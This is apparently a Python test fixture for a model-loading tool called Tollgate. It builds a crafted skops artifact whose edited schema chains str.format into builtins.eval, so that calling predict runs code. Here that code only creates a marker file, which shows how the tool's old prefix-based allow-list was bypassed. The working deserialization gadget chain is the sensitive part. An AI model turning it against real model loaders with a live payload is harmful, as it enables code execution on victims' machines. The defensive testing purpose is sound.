"""Hostile inputs the tests throw at Tollgate: made here, once, so every test attacks the same way."""

from __future__ import annotations

import builtins
import io
import json
import zipfile
from pathlib import Path

import numpy as np

# What Tollgate's loaders trusted before the exact allow-list: any type whose name had one of these prefixes.
OLD_PREFIXES = ("sklearn.", "numpy.", "scipy.sparse.", "builtins.", "collections.")


def crafted_artifact(marker: Path) -> bytes:
    """A skops file whose pipeline runs code on its first ``predict``: a FunctionTransformer whose function is
    the bound method ``<payload string>.format`` feeds ``builtins.eval``, which creates ``marker``. Every type
    it names starts with ``builtins.`` or ``sklearn.``, so the old prefix check passed it."""
    import skops.io as sio
    from sklearn.dummy import DummyRegressor
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    def placeholder(x):   # replaced in the schema below by the bound method
        return x

    model = DummyRegressor().fit(np.zeros((2, 2)), [0.0, 1.0])
    pipeline = Pipeline([("fmt", FunctionTransformer(func=placeholder)),
                         ("run", FunctionTransformer(func=builtins.eval)), ("model", model)])
    payload = f"(__import__('pathlib').Path({str(marker)!r}).touch(), '''{{}}''')[0]"
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sio.dumps(pipeline))) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "schema.json":
                schema = json.loads(data)
                step = schema["content"]["content"]["steps"]["content"][0]["content"][1]
                step["content"]["content"]["func"] = {
                    "__class__": "str", "__module__": "builtins", "__loader__": "MethodNode", "__id__": 1,
                    "content": {"func": "format", "obj": {
                        "__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
                        "content": json.dumps(payload), "is_json": True, "__id__": 2}}}
                data = json.dumps(schema).encode()
            target.writestr(item, data)
    return out.getvalue()
